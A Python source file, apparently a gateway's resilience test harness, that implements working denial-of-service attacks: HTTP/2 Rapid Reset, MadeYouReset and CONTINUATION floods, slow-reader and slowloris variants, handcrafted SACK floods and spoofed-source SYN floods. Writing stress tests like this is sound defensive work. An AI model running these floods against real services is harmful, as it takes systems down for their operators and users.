# SPDX-License-Identifier: Apache-2.0
"""Attacks of one address on a gateway. Each attack makes `count` connections and then touches them, `rate` a second in
all, one after the other. Its CPU use is bounded: others notice the gateway's load, not the attacker's. An attack starts
again what the gateway has ended."""
import ctypes
import functools
import ipaddress
import multiprocessing
import os
import random
import re
import signal
import socket
import struct
import subprocess
import sys
import time

from wire import ACK, PSH, Wire, interface, reset_all

PORT, ADMIN_PORT = 8080, 9900
TICK = 0.02
BEGIN_RATE = 2000  # connections a second, at first
TCP_MAXSEG, TCP_WINDOW_CLAMP, IPV6_FREEBIND = 2, 10, 78
CLONE_NEWNET = 0x40000000


def enter(namespace):
    """This thread is in another network namespace from now on."""
    with open(namespace) as f:
        libc = ctypes.CDLL(None, use_errno=True)
        if libc.setns(f.fileno(), CLONE_NEWNET):
            raise OSError(ctypes.get_errno(), namespace)


def dial(target, source, options=(), timeout=5, port=PORT, kind=socket.SOCK_STREAM):
    """From an address, or from any one of a prefix."""
    net = ipaddress.ip_network(source)
    s = socket.socket(socket.AF_INET if net.version == 4 else socket.AF_INET6, kind)
    for option in options:
        s.setsockopt(*option)
    s.settimeout(timeout)
    if net.version == 6:
        s.setsockopt(socket.IPPROTO_IPV6, IPV6_FREEBIND, 1)
    s.bind((str(net[random.randrange(net.num_addresses)]), 0))
    s.connect((target, port))
    return s


def at_once(s, call, *args):
    """Returns the result of a socket call without waiting; None: none now. MSG_DONTWAIT would wait for the time-out."""
    patience = s.gettimeout()
    s.settimeout(0)
    try:
        return call(*args)
    except BlockingIOError:
        return None
    finally:
        s.settimeout(patience)


# --- HTTP/2 by hand ---

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4


def frame(kind, flags, stream, body=b""):
    return struct.pack("!I", len(body))[1:] + struct.pack("!BBI", kind, flags, stream) + body


def h2(window=65535):
    return b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, struct.pack("!HI", 4, window))


def fields(path):
    return b"\x83\x86\x04" + bytes([len(path)]) + path + b"\x41\x01a"


def head(stream, path, end):
    return frame(HEADERS, END_HEADERS | (END_STREAM if end else 0), stream, fields(path))


def call(stream, method):
    """A call of gRPC health with an empty message."""
    more = b"\x0f\x10\x10application/grpc\x00\x02te\x08trailers"
    return frame(HEADERS, END_HEADERS, stream, fields(b"/grpc.health.v1.Health/" + method) + more) + \
        frame(DATA, END_STREAM, stream, bytes(5))


PING_FRAME = frame(PING, 0, 0, b"12345678")


class Attack:
    count, rate, options = 1, 1, ()
    trips = False  # the gateway has to end its connections for it

    def __init__(self, target, source, victim=None, hand=None):
        self.target, self.source = target, source
        self.victim = victim  # in whose address some of them come
        self.hand = hand  # an address that no kernel answers for
        self.calmed = multiprocessing.Value("I", 0)

    def dial(self):
        return dial(self.target, self.source, self.options)

    def begin(self):
        return self.dial()

    def keep(self, s):
        """Whether it is still there, and what it says is thrown away."""
        if at_once(s, s.recv, 1 << 16) == b"":
            raise EOFError


# --- more work for the gateway than for the client ---

CALMED = b"\x07\x00\x00\x00\x00\x00.{4}\x00\x00\x00\x0b"  # GOAWAY, ENHANCE_YOUR_CALM


class Flood(Attack):
    """A burst of frames on each of four connections, 50 times a second."""
    count, rate = 4, 200
    burst = 100
    trips = True

    def begin(self):
        s = self.dial()
        s.settimeout(0.2)
        s.sendall(h2())
        self.streams[s] = 1
        return s

    def keep(self, s):
        self.listen(s)
        try:
            s.sendall(self.parts(self.streams[s]))
        except OSError:
            self.listen(s)
            raise
        self.streams[s] += 2 * self.burst

    def listen(self, s):
        """Until there is nothing more: how it was told to end counts."""
        while (said := at_once(s, s.recv, 1 << 16)) is not None:
            if re.search(CALMED, said, re.DOTALL):
                self.calmed.value += 1
            if not said:
                raise EOFError

    def __init__(self, *where):
        super().__init__(*where)
        self.streams = {}

    def parts(self, first):
        return b"".join(self.part(n) for n in range(first, first + 2 * self.burst, 2))

    def part(self, stream):
        raise NotImplementedError


class RapidReset(Flood):
    def part(self, stream):
        return head(stream, b"/echo", True) + frame(RST_STREAM, 0, stream, struct.pack("!I", 8))


class MadeYouReset(Flood):
    """Raises the window beyond its maximum: the gateway must reset."""

    def part(self, stream):
        return head(stream, b"/echo", True) + frame(WINDOW_UPDATE, 0, stream, b"\x7f\xff\xff\xff")


class Continuations(Flood):
    """A head that never ends."""

    def begin(self):
        s = super().begin()
        s.sendall(frame(HEADERS, 0, 1, fields(b"/echo")))
        return s

    def part(self, stream):
        return frame(CONTINUATION, 0, 1, b"\x00\x01y\x01z" * 8)


class Controls(Flood):
    """1000 a second and 10000 at once are anybody's; twenty times as many are not, also if this process gets little of a core."""
    burst = 400

    @functools.cache
    def all_parts(self):
        return super().parts(1)

    def parts(self, first):
        return self.all_parts()


class Settings(Controls):
    def part(self, stream):
        return frame(SETTINGS, 0, 0, struct.pack("!HI", 4, 1000 + stream % 1000))


class Pings(Controls):
    def part(self, stream):
        return PING_FRAME


class Priorities(Controls):
    def part(self, stream):
        return frame(PRIORITY, 0, stream + 2, struct.pack("!IB", stream, 1))


class EmptyData(Controls):
    def begin(self):
        s = super().begin()
        s.sendall(head(1, b"/echo", False))
        return s

    def part(self, stream):
        return frame(DATA, 0, 1)


# --- replies that are not taken ---

class WindowZero(Attack):
    """Replies that no window of HTTP/2 lets out."""
    count, rate, window = 60, 20, 0

    def begin(self):
        s = self.dial()
        data = h2(self.window)
        for stream in range(1, 9, 2):
            data += head(stream, b"/echo", False)
            data += b"".join(frame(DATA, 0, stream, b"x" * 16000) for _ in range(12)) + frame(DATA, 1, stream, b"x")
        s.sendall(data)
        return s

    def keep(self, s):
        super().keep(s)
        s.sendall(PING_FRAME)


class WindowTiny(WindowZero):
    """The same byte by byte."""
    rate, window = 200, 1

    def keep(self, s):
        Attack.keep(self, s)
        s.sendall(b"".join(frame(WINDOW_UPDATE, 0, n, struct.pack("!I", 1)) for n in range(1, 9, 2)))


class SlowReader(Attack):
    """Replies that TCP's window does not let out."""
    count, rate = 80, 20
    options = [(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)]

    def begin(self):
        s = self.dial()
        s.sendall(b"POST /echo HTTP/1.1\r\nHost: x\r\nContent-Length: 600000\r\n\r\n" + b"x" * 600000)
        return s

    def keep(self, s):
        pass


class TinyReader(SlowReader):
    """Some bytes at a time."""
    rate = 400
    options = [(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048), (socket.IPPROTO_TCP, TCP_WINDOW_CLAMP, 128)]

    def keep(self, s):
        if at_once(s, s.recv, 64) == b"":
            raise EOFError


class TinySegments(SlowReader):
    """In segments of 88 bytes."""
    options = [(socket.IPPROTO_TCP, TCP_MAXSEG, 88)]


class UnreadAsker(SlowReader):
    """And asks again beside them, as if all were well."""

    def keep(self, s):
        at_once(s, s.send, b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")


# --- segments made by hand ---

class ByHand(Attack):
    mss = 1460

    def begin(self):
        w = Wire(self.target, PORT, self.hand)
        try:
            w.open(self.mss)
            self.prepare(w)
        except BaseException:
            reset_all([w])
            w.close()
            raise
        return w

    def keep(self, s):
        for _ in range(64):
            if not s.get(0):
                return


class SackFlood(ByHand):
    """A large reply in small segments, of which the first is missing for ever, as 3200 acknowledgements a second tell."""
    count, rate, mss = 4, 200, 536
    burst = 64
    size, taken = 500000, 260000

    def prepare(self, w):
        w.write(b"POST /echo HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n" % self.size + b"x" * self.size)
        w.take(self.taken)
        end = w.latest(0.2)
        if (end - w.ack) & 0xFFFFFFFF < 16 * self.mss:
            raise EOFError
        last = end - self.mss & 0xFFFFFFFF
        w.said = w.packet(ACK, options=struct.pack("!BBBBII", 1, 1, 5, 10, last, end))

    def keep(self, s):
        super().keep(s)
        for _ in range(self.burst):
            s.put(s.said)


class OutOfOrder(ByHand):
    """Every other byte of a body, as many as are kept: all that is kept of this kind, and more."""
    count, rate = 40, 40

    def prepare(self, w):
        w.write(b"POST /echo HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000\r\n\r\n")
        for n in range(256):
            w.put(w.packet(ACK | PSH, b"x", 1 + 2 * n))

    def keep(self, s):
        super().keep(s)
        s.put(s.packet(ACK | PSH, b"x", 1 + 2 * random.randrange(256)))


class Spoofed(Attack):
    """Sends segments with a victim's source address."""
    packets, what = 2000, ()

    def begin(self):
        victim = str(ipaddress.ip_network(self.victim).network_address)
        return subprocess.Popen([os.environ["BUILD"] + "/tests/netns/flood", interface(), os.environ["GATEWAY_MAC"],
                                 self.target, str(PORT), "200", str(self.packets), victim, *self.what],
                                stdout=subprocess.DEVNULL, preexec_fn=end_with_parent)

    def keep(self, s):
        if s.poll() is not None:
            raise EOFError


class SpoofedSyns(Spoofed):
    pass


class SpoofedDatagrams(Spoofed):
    what = ("1",)


def end_with_parent():
    ctypes.CDLL(None).prctl(1, signal.SIGKILL)


# --- requests that are never whole ---

class SlowHead(Attack):
    count, rate = 1000, 500

    def begin(self):
        s = self.dial()
        s.sendall(b"GET / HTTP/1.1\r\nHost: x\r\nX-Long: " + b"y" * 3000)
        return s

    def keep(self, s):
        super().keep(s)
        s.sendall(b"y")


class SplitHead(Attack):
    """A head that does not end, beside a stream that cannot."""
    count, rate = 600, 300

    def begin(self):
        s = self.dial()
        s.sendall(h2(0) + head(1, b"/", True) + frame(HEADERS, 0, 3, fields(b"/echo")))
        return s


class SlowBody(Attack):
    """Bodies of which all but some has come, and then a byte at a time."""
    count, rate = 60, 20

    def begin(self):
        s = self.dial()
        s.sendall(b"POST /echo HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000\r\n\r\n" + b"x" * 900000)
        return s

    def keep(self, s):
        super().keep(s)
        s.sendall(b"x")


class HalfOpen(Attack):
    """More requests than there are exchanges."""
    count, rate = 129, 60

    def begin(self):
        s = self.dial()
        s.sendall(h2() + b"".join(head(i, b"/echo", False) for i in range(1, 257, 2)))
        return s

    def keep(self, s):
        super().keep(s)
        s.sendall(PING_FRAME)


class Watches(HalfOpen):
    count, rate = 33, 33

    def begin(self):
        s = self.dial()
        s.sendall(h2() + b"".join(call(i, b"Watch") for i in range(1, 257, 2)))
        return s


# --- connections ---

class Idle(Attack):
    """As many connections as the gateway has places for, and more."""
    count, rate = 4500, 500


class SilentAdmin(Attack):
    """At the admin endpoint, from the gateway's own host."""
    count, rate = 64, 64
    namespace = None

    def dial(self):
        return socket.create_connection(("127.0.0.1", ADMIN_PORT), 5)


GROUPS = {
    "floods": (RapidReset, MadeYouReset, Continuations, Settings, Pings, Priorities, EmptyData, SackFlood),
    "readers": (WindowZero, WindowTiny, SlowReader, TinyReader, TinySegments, UnreadAsker),
    "requests": (SlowHead, SplitHead, SlowBody, HalfOpen, OutOfOrder),
    "places": (Watches, Idle, SilentAdmin, SpoofedSyns, SpoofedDatagrams),
}


def hold(attack, begun, namespace):
    """Until it is told to end. begun.value counts the connections that were begun once."""
    os.nice(10)
    if isinstance(attack, SilentAdmin):
        enter(namespace)
    held = [None] * attack.count
    signal.signal(signal.SIGTERM, lambda *_: sys.exit())
    try:
        hold_all(attack, held, begun)
    finally:
        reset_all(one for one in held if isinstance(one, Wire))


def hold_all(attack, held, begun):
    touched, debt, then = 0, 0.0, time.monotonic()
    while True:
        now = time.monotonic()
        debt += (now - then) * (attack.rate if touched >= attack.count else BEGIN_RATE)
        debt, then = min(debt, 0.1 * BEGIN_RATE), now
        while debt >= 1:
            i = touched % attack.count
            touched, debt = touched + 1, debt - 1
            try:
                if held[i] is None:
                    held[i] = attack.begin()
                else:
                    attack.keep(held[i])
            except (OSError, EOFError):
                held[i] = None
            begun.value = min(touched, attack.count)
            if touched == attack.count:
                debt = 0
        time.sleep(TICK)
